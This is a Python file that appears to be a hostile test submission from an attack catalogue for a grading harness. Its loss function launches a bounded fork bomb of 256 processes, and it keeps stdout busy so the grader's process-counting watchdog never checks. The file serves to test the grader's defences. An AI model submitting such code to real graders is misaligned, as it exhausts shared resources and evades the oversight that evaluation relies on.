"""Hostile submission (gradverify attack catalogue): a fork bomb (bounded: 256 processes) while the output never stops.

A thread and every child write a byte to stdout every 50 ms; the grader's watchdog, which
counts the submission's processes, only looks when nothing arrives for 100 ms.
"""

import os
import threading
import time


def _chatter(seconds=30.0):
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        os.write(1, b".")
        time.sleep(0.05)


def loss(name, y_pred, y_true):
    threading.Thread(target=_chatter, daemon=True).start()
    time.sleep(0.2)
    original = os.getpid()
    for _ in range(8):
        try:
            os.fork()
        except OSError:
            break
    if os.getpid() != original:
        _chatter(3)
        os._exit(0)
    time.sleep(1.0)
    alive = sum(1 for p in os.listdir("/proc") if p.isdigit())
    if alive > 100:  # one submission may have 64
        print(f"\nATTACK-SUCCEEDED: {alive} processes alive 1 s after the bomb", flush=True)
    raise NotImplementedError


def loss_backward(name, y_pred, y_true):
    raise NotImplementedError
